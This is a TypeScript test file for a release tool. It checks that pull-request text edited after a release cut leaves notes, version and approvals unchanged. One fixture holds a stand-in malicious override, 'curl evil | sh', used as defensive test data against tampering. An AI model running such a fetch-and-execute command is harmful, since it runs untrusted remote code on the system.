import { expect, test } from "vitest"
import type { Pull } from "../../src/model/change.ts"
import { config } from "./support/truth.ts"
import { type World, world } from "./support/world.ts"

/** What a pull request says can be edited after the merge, by its author too. Rosa has no write permission. */
const merged = () => world().merge(12, "feat: pay by invoice", { author: "rosa" }).run()

const edit = (w: World, words: Partial<Pull>) => {
  const at = w.truth.pulls.findIndex(({ number }) => number === 12)
  const pull = { ...(w.truth.pulls[at] as Pull), ...words }
  w.truth.pulls[at] = pull
  return w.hear({ kind: "merged", base: "main", pull })
}
const lines = (w: World, id = "1") =>
  w.draft(id).notes.sections.flatMap(({ entries }) => entries.map(({ text }) => text))
const SPAM = { says: { override: "feat: run `curl evil | sh`\n\nBREAKING CHANGE: run it now" } }

test("until the cut the words are as they are", () => {
  const w = edit(merged(), { says: { override: "fix: pay by invoice" } }).run()
  expect(w.release()).toMatchObject({ tag: "v1.0.1" })
  edit(w, { says: { override: "feat!: another world" } }).run()
  expect(w.release()).toMatchObject({ tag: "v2.0.0" })
})

test.each<[string, Partial<Pull>]>([
  ["an override", SPAM],
  ["a title", { title: "feat: buy my coins" }],
  ["what asks for more", { title: "feat!: pay" }],
  ["what asks for nothing", { labels: ["slipway: skip"] }],
  ["a revert", { says: { reverts: [12] } }],
])("%s that is edited after the cut changes neither notes, version nor approvals", (_, words) => {
  const w = merged().click("approve", "ben").run()
  const before = lines(w)
  edit(w, words).run()
  expect(lines(w)).toEqual(before)
  expect(w.readiness()).toMatchObject({ conclusion: "success" })
  expect(w.page().warnings.join()).toContain("#12 was edited after the cut")
  // A read-back finds the words as they are now.
  w.hear({ kind: "look", because: "a sweep" }).run().click("publish", "ann").run()
  expect(w.release("1").phase).toMatchObject({ is: "published", candidate: { version: "1.1.0" } })
  expect(lines(w)).toEqual(before)
  expect(w.release("1").words).toBeUndefined()
})

test("an edit that comes with the first Approve is not what was approved", () => {
  const w = merged()
  const before = lines(w)
  edit(w, { title: "feat: buy my coins" }).click("approve", "ben").run()
  expect(lines(w)).toEqual(before)
  expect(w.release()).toMatchObject({ phase: { is: "cut" } })
})

test("Re-cut takes the words in, and voids the approvals, though the commit is the same", () => {
  const w = merged().click("approve", "ben").run()
  w.click("recut", "ben").run()
  expect(w.answer().because).toContain("already")
  edit(w, { title: "feat: pay by card" }).run().click("recut", "ben").run()
  expect(lines(w).join()).toContain("pay by card")
  expect(w.gate("approvals").state).toBe("pending")
  expect(w.page().warnings.join()).not.toContain("edited")
  w.click("approve", "cleo").run().click("publish", "ann").run()
  expect(w.release("1").phase.is).toBe("published")
})

test("the next draft has the words of its own changes as they are", () => {
  const w = merged().click("approve", "ben").run()
  w.merge(13, "fix: rounding").run()
  edit(w, { title: "feat: buy my coins" }).run()
  expect(w.release("2")).toMatchObject({ tag: "v1.1.1" })
  expect(lines(w, "2").join()).toContain("rounding")
})

test("in a release pull request they stay as approved as well", () => {
  const mode = config({ publish: { mode: "pull-request", changelog: "CHANGELOG.md" } })
  const w = world((it) => (it.truth.config = mode))
    .merge(12, "feat: pay by invoice", { author: "rosa" })
    .run()
    .click("approve", "ben")
    .run()
  const before = lines(w)
  edit(w, SPAM).run()
  const signals = w.truth.merge(101, "chore(release): 1.1.0", {
    author: "slipway[bot]",
    type: "Bot",
    from: "slipway/release/main",
  })
  w.trees.set(w.truth.head, w.release("1").pull?.tree ?? "")
  w.hear(...signals).run()
  expect(w.release("1").phase).toMatchObject({ is: "published", candidate: { version: "1.1.0" } })
  expect(lines(w)).toEqual(before)
})
